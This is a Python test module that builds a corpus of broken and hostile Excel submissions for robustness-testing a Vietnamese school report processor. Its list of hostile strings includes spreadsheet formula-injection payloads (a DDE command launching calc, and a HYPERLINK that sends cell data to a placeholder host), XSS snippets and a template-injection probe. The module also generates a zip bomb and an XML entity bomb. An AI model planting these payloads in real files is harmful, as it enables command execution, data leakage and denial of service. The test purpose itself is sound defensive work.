"""Build the corpus of broken, hostile and odd inputs from our own template.

Every file is made by code (no hand-edited binaries), and each entry declares what the
batch must make of it: the outcome in "Tệp đã nhận" and the issue code it must carry.
Run directly to look at the files: python -m tests.corpus.build OUT_DIR
"""

from __future__ import annotations

import io
import os
import random
import shutil
import struct
import subprocess
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl

from processor.model.layout import SHEET_META, SHEET_REPORT, SHEET_SCORES, build_layout
from processor.model.records import Unit
from processor.model.rubric import load_rubric
from processor.model.settings import load_settings
from processor.template.filler import fill_template, submission_values
from processor.template.writer import TemplateRequest, write_template

YEAR = 2025
USED, FIX, UNREADABLE, SKIPPED = "Đã dùng", "Cần sửa", "Không đọc được", "Bỏ qua"
HOSTILE_TEXTS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(document.cookie)",
    "</textarea></style><svg onload=alert(1)>",
    "{{ 7*7 }} {% raw %}",
]


@dataclass(frozen=True)
class Entry:
    rel: str
    outcome: str
    code: str | None  # the issue code the batch must report for this file (None: no issue required)
    what: str


class _Builder:
    def __init__(self, out: Path, work: Path) -> None:
        self.out, self.work = out, work
        self.rubric = load_rubric()
        self.layout = build_layout(self.rubric)
        self.entries: list[Entry] = []
        self.roster: list[Unit] = []
        self._templates: dict[int, Path] = {}
        self._n = 0

    def template(self, year: int = YEAR) -> Path:
        if year not in self._templates:
            request = TemplateRequest(self.layout, load_settings(), year,
                                      generated_at=datetime(2026, 1, 5, tzinfo=UTC))
            self._templates[year] = write_template(self.work / f"mau_{year}.xlsx", request)
        return self._templates[year]

    def filled(self, rel: str, *, year: int = YEAR, scores: dict[str, Any] | None = None,
               evidence: dict[str, Any] | None = None, narrative: dict[str, Any] | None = None,
               roster: bool = True, **identity: Any) -> Path:
        """A correct submission of its own unit (code Cnnn), with the given overrides."""
        self._n += 1
        code = identity.pop("ma_don_vi", f"C{self._n:03d}")
        name = identity.pop("ten_don_vi", f"Đơn vị thử nghiệm {self._n:03d}")
        if roster and code:
            self.roster.append(Unit(code, name))
        ident = {"ma_don_vi": code, "ten_don_vi": name, "nam_danh_gia": year, "ngay_bao_cao": "15/01/2026",
                 "nguoi_ky": "Nguyễn Văn A", "chuc_vu_nguoi_ky": "Giám đốc", **identity}
        all_scores = {leaf.id: leaf.max for leaf in self.rubric.leaves}
        all_scores.update(scores or {})
        all_evidence = {leaf.id: f"Quyết định số {i}/QĐ" for i, leaf in enumerate(self.rubric.leaves, 1)}
        all_evidence.update(evidence or {})
        values = submission_values(ident, all_scores, all_evidence, narrative or {"kien_nghi": "Không"})
        return fill_template(self.template(year), self.out / rel, {k: v for k, v in values.items() if v is not None})

    def add(self, rel: str, outcome: str, code: str | None, what: str) -> None:
        self.entries.append(Entry(rel, outcome, code, what))

    def raw(self, rel: str, data: bytes) -> Path:
        path = self.out / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path


def _edit(path: Path, change: Callable[[openpyxl.Workbook], None]) -> None:
    wb = openpyxl.load_workbook(path)
    change(wb)
    wb.save(path)


def _set_cell(sheet: str, cell: str, value: Any, data_type: str | None = None) -> Callable[[Any], None]:
    def change(wb: Any) -> None:
        wb[sheet][cell].value = value
        if data_type:
            wb[sheet][cell].data_type = data_type
    return change


def build_corpus(out: Path, work: Path, soffice: str | None = None) -> tuple[list[Entry], list[Unit]]:
    """Write the corpus into out (emptied first); returns its entries and the roster to use."""
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    work.mkdir(parents=True, exist_ok=True)
    b = _Builder(out, work)
    rng = random.Random(20251231)
    layout = b.layout

    # Damaged or not a workbook at all.
    b.raw("hong/rong.xlsx", b"")
    b.add("hong/rong.xlsx", UNREADABLE, "file-empty", "empty file")
    b.raw("hong/ngau_nhien.xlsx", bytes(rng.randrange(256) for _ in range(4096)))
    b.add("hong/ngau_nhien.xlsx", UNREADABLE, "file-unreadable", "random bytes")
    b.raw("hong/van_ban.xlsx", "Kính gửi Sở Giáo dục và Đào tạo,\nđơn vị gửi báo cáo.\n".encode())
    b.add("hong/van_ban.xlsx", UNREADABLE, "file-unreadable", "a text file named .xlsx")
    b.raw("hong/word_doi_ten.xlsx", _docx())
    b.add("hong/word_doi_ten.xlsx", UNREADABLE, "wrong-file-type", "a .docx renamed .xlsx")
    b.raw("hong/pdf_doi_ten.xls", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")
    b.add("hong/pdf_doi_ten.xls", UNREADABLE, "wrong-file-type", "a PDF named .xls")
    whole = b.filled("tmp/nguon_cat.xlsx", roster=False).read_bytes()
    b.raw("hong/cat_cut.xlsx", whole[: len(whole) // 2])
    b.add("hong/cat_cut.xlsx", UNREADABLE, "file-unreadable", "a workbook cut in half in transit")
    b.raw("hong/mat_khau.xlsx", _encrypted(b.filled("tmp/nguon_mk.xlsx", roster=False)))
    b.add("hong/mat_khau.xlsx", UNREADABLE, "file-encrypted", "a password-to-open workbook")

    # Protection removed and locked content changed.
    row_1a = layout.row_of("1a").row + 1
    for rel, change, code, what in [
        ("sua/noi_dung.xlsx", _set_cell(SHEET_SCORES, f"B{row_1a}", "Đơn vị có kế hoạch"), "label-changed",
         "a criterion label changed"),
        ("sua/toi_da.xlsx", _set_cell(SHEET_SCORES, f"C{layout.row_of('3c').row + 1}", 10), "max-changed",
         "a maximum changed"),
        ("sua/go_de_tong.xlsx", _set_cell(SHEET_SCORES, layout.total_cell.a1, 100), "total-mismatch",
         "the total formula typed over with a number"),
        ("sua/xoa_trang.xlsx", lambda wb: wb.remove(wb[SHEET_REPORT]), "sheet-missing", "a sheet deleted"),
        ("sua/doi_ten_trang.xlsx", lambda wb: setattr(wb[SHEET_SCORES], "title", "Cham diem"), "sheet-missing",
         "a sheet renamed"),
        ("sua/mat_trang_an.xlsx", lambda wb: wb.remove(wb[SHEET_META]), "metadata-missing",
         "the metadata sheet deleted"),
        ("sua/phien_ban_khac.xlsx", _set_cell(SHEET_META, layout.meta["rubric_version"].a1, "2019.1"),
         "unknown-rubric", "metadata from another rubric version"),
    ]:
        scores = {"3c": 2} if code == "total-mismatch" else None
        _edit(b.filled(rel, scores=scores), change)
        outcome = USED if code == "total-mismatch" else FIX
        b.add(rel, outcome, code, what)
    _edit(b.filled("sua/dao_thu_tu_trang.xlsx"), lambda wb: wb.move_sheet(SHEET_REPORT, offset=-2))
    b.add("sua/dao_thu_tu_trang.xlsx", USED, None, "sheets reordered (read by name: fine)")
    _edit(b.filled("sua/them_trang.xlsx"), lambda wb: wb.create_sheet("Ghi chú riêng").append(["x"]))
    b.add("sua/them_trang.xlsx", USED, "sheet-extra", "an extra sheet")
    b.filled("sua/mau_nam_truoc.xlsx", year=YEAR - 1, nam_danh_gia=YEAR)
    b.add("sua/mau_nam_truoc.xlsx", FIX, "wrong-year", "last year's template")

    # Every kind of bad score.
    cell_1a = layout.score_cell("1a").a1
    for rel, value, code in [
        ("diem/chu.xlsx", "mười", "score-not-number"),
        ("diem/am.xlsx", -2, "score-negative"),
        ("diem/qua_lon.xlsx", 15, "score-above-max"),
        ("diem/rat_lon.xlsx", 1e300, "score-above-max"),
        ("diem/le.xlsx", 7.3, "score-step"),
        ("diem/ngay.xlsx", datetime(2025, 5, 1), "score-not-number"),
        ("diem/dung_sai.xlsx", True, "score-not-number"),
        ("diem/nan.xlsx", "NaN", "score-not-number"),
        ("diem/vo_cuc.xlsx", "inf", "score-not-number"),
        ("diem/dau_phay.xlsx", "7,5", "score-as-text"),
        ("diem/bo_trong.xlsx", None, "score-missing"),
    ]:
        path = b.filled(rel)
        _edit(path, _set_cell(SHEET_SCORES, cell_1a, value))
        b.add(rel, USED if code == "score-as-text" else FIX, code, f"score 1a = {value!r}")
    path = b.filled("diem/cong_thuc.xlsx")
    _edit(path, _set_cell(SHEET_SCORES, cell_1a, "=5+5"))
    b.add("diem/cong_thuc.xlsx", FIX, "score-formula", "a formula in a score cell (no cached value)")
    path = b.filled("diem/loi_ref.xlsx")
    _edit(path, _set_cell(SHEET_SCORES, cell_1a, "#REF!", "e"))
    b.add("diem/loi_ref.xlsx", FIX, "score-not-number", "an error value #REF! in a score cell")

    # Hostile and odd text.
    b.filled("chu/rat_dai.xlsx", evidence={"1a": "Minh chứng rất dài. " * 5000},
             narrative={"ket_qua_thuc_hien": "Báo cáo dài " * 9000})
    b.add("chu/rat_dai.xlsx", USED, None, "100,000-character texts")
    texts = HOSTILE_TEXTS
    b.filled("chu/doc_hai.xlsx", so_bao_cao=texts[0], nguoi_ky=texts[5], chuc_vu_nguoi_ky=texts[6],
             nguoi_lien_he=texts[1], dien_thoai=texts[3], email=texts[7],
             evidence={leaf.id: texts[i % len(texts)] for i, leaf in enumerate(b.rubric.leaves)},
             narrative={k: texts[i % len(texts)] for i, k in enumerate(layout.narrative)})
    b.add("chu/doc_hai.xlsx", USED, None, "formulas (=, +, -, @) and HTML/JS in every text field")
    b.filled("chu/ten_doc_hai.xlsx", ma_don_vi="=1+1", ten_don_vi="<script>alert(1)</script>=HYPERLINK(\"x\")",
             roster=False)
    b.add("chu/ten_doc_hai.xlsx", USED, "code-not-in-roster", "a hostile unit code and name")
    nfd_name = "UBND xã Tiên Lục"
    b.roster.append(Unit("CNFD", nfd_name))
    b.filled("chu/ten_nfd.xlsx", ma_don_vi="", ten_don_vi=unicodedata.normalize("NFD", nfd_name), roster=False)
    b.add("chu/ten_nfd.xlsx", USED, None, "a unit name in NFD, no code: matched to the roster")
    zw_name = "Trường Mầm non Hoa Sen"
    b.roster.append(Unit("CZW", zw_name))
    b.filled("chu/ten_ky_tu_an.xlsx", ma_don_vi="", ten_don_vi="Trường\u00a0Mầm\u200b non  Hoa\u00a0Sen",
             roster=False)
    b.add("chu/ten_ky_tu_an.xlsx", USED, None, "zero-width and non-breaking spaces in the name")

    # File names and folders.
    for rel in ["Hồ sơ gửi về/Tệp có dấu và khoảng trắng.xlsx",
                "a/b/c/d/e/" + "Bao_cao_tu_danh_gia_don_vi_hoc_tap_nam_2025_" * 4 + ".xlsx"]:
        b.filled(rel)
        b.add(rel, USED, None, "diacritics, spaces, a long name, nested folders")
    b.raw("~$dang_mo.xlsx", b"\x0bNguyen Van A" + b"\x00" * 40)
    b.add("~$dang_mo.xlsx", SKIPPED, None, "an Office lock file")
    b.raw(".an.xlsx", b"hidden")
    b.add(".an.xlsx", SKIPPED, None, "a hidden file")

    # Built to hurt.
    b.raw("doc_hai/bom_zip.xlsx", _zip_bomb(b.template()))
    b.add("doc_hai/bom_zip.xlsx", UNREADABLE, "zip-bomb", "a small zip that expands to 2 GB")
    b.raw("doc_hai/bom_xml.xlsx", _entity_bomb(b.filled("tmp/nguon_xml.xlsx", roster=False)))
    b.add("doc_hai/bom_xml.xlsx", UNREADABLE, "xml-entity", "an XML entity-expansion bomb")
    b.raw("doc_hai/trieu_dong.xlsx", _million_rows(b.filled("tmp/nguon_trieu.xlsx", roster=False)))
    b.add("doc_hai/trieu_dong.xlsx", UNREADABLE, "sheet-too-large", "a million-row scoring sheet")

    # Re-saved by LibreOffice in other formats.
    if soffice:
        for fmt, filt in (("xls", "xls"), ("ods", "ods"), ("xlsm", "xlsm:Calc MS Excel 2007 VBA XML")):
            source = b.filled(f"tmp/ban_sao_{fmt}.xlsx")
            _convert(soffice, source, filt, work)
            b.raw(f"dinh_dang/ban_sao.{fmt}", (work / f"ban_sao_{fmt}.{fmt}").read_bytes())
            b.add(f"dinh_dang/ban_sao.{fmt}", USED, None, f"a valid submission re-saved as .{fmt} by LibreOffice")
    shutil.rmtree(out / "tmp")
    return b.entries, b.roster


def _docx() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("word/document.xml", '<?xml version="1.0"?><w:document><w:body>Báo cáo</w:body></w:document>')
    return buf.getvalue()


def _encrypted(source: Path) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    with source.open("rb") as fh:
        OOXMLFile(fh).encrypt("matkhau", out)
    return out.getvalue()


def _entity_bomb(source: Path) -> bytes:
    """A filled workbook whose identity sheet declares a 'billion laughs' DTD and uses it
    for the signer's name: expanded, one cell would hold 10^9 copies of "ha"."""
    lol = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    dtd = f'<!DOCTYPE worksheet [<!ENTITY l0 "ha">{lol}]>'
    buf = io.BytesIO()
    planted = False
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            text = data.decode("utf-8", errors="replace")
            # openpyxl writes the name as UTF-8, or as character references when lxml is installed
            name = next((n for n in ("Nguyễn Văn A", "Nguy&#7877;n V&#259;n A") if n in text), None)
            if not planted and info.filename.startswith("xl/") and name:
                start = text.index("?>") + 2 if text.startswith("<?xml") else 0
                text = text[:start] + dtd + text[start:]
                data = text.replace(name, "&l9;").encode("utf-8")
                planted = True
            zout.writestr(info, data)
    assert planted
    return buf.getvalue()


def _million_rows(source: Path) -> bytes:
    """The template with a million extra rows in the scoring sheet (about 40 MB of XML)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        book = zin.read("xl/workbook.xml").decode("utf-8")
        order = [n for n in zin.namelist() if n.startswith("xl/worksheets/sheet")]
        target = sorted(order)[[s for s in book.split("<sheet ")[1:]].index(
            next(s for s in book.split("<sheet ")[1:] if SHEET_SCORES in s))]
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == target:
                rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(100, 1_000_100))
                data = data.decode("utf-8").replace("</sheetData>", rows + "</sheetData>").encode("utf-8")
            zout.writestr(info, data)
    return buf.getvalue()


def _zip_bomb(template: Path) -> bytes:
    """Our template's parts plus one part that inflates to 2 GB, written as a raw zip so that
    the 2 GB never exist: one deflated block of zeros, repeated after a full flush."""
    entries: list[tuple[str, bytes, int, int]] = []
    with zipfile.ZipFile(template) as z:
        for name in z.namelist():
            data = z.read(name)
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            entries.append((name, c.compress(data) + c.flush(), zlib.crc32(data), len(data)))
    block_plain = b"\0" * (16 * 1024 * 1024)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(block_plain) + c.flush(zlib.Z_FULL_FLUSH)
    repeats = 128
    crc = 0
    for _ in range(repeats):
        crc = zlib.crc32(block_plain, crc)
    bomb = block * repeats + c.flush()
    entries.append(("xl/media/image1.bin", bomb, crc, len(block_plain) * repeats))
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, crc32, size in entries:
        offset = out.tell()
        encoded = name.encode("utf-8")
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc32, len(data), size, len(encoded), 0)
        out.write(header + encoded + data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc32, len(data), size,
                                  len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    out.write(central.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central.getvalue()),
                          start, 0))
    return out.getvalue()


def _convert(soffice: str, source: Path, target_filter: str, work: Path) -> None:
    subprocess.run([soffice, f"-env:UserInstallation={(work / 'lo_profile').as_uri()}", "--headless",
                    "--convert-to", target_filter, "--outdir", str(work), str(source)],
                   check=True, capture_output=True, timeout=180)


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "tests/corpus/out")
    entries, roster = build_corpus(target, target.parent / (target.name + "_work"), shutil.which("soffice"))
    for e in entries:
        print(f"{e.outcome:16} {e.code or '-':20} {e.rel}  ({e.what})")
    print(f"{len(entries)} files, roster of {len(roster)} units", file=sys.stderr)
    os.sys.exit(0)
